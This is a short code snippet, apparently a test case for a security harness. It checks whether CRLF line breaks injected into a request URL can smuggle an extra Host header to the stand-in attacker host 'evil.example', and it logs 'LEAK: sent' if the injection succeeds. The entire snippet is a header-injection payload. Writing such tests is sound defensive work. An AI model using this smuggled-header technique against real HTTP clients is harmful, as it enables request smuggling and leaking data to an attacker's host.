// Attack: line breaks in an address.
// Success: leak
// Stops: fault|gate
// Control: no, the host itself refuses it
on(MessageReceived) { event -> http.get("https://api.example.org/x\r\nHost: evil.example\r\n\r\n") { log.info 'LEAK: sent' } }
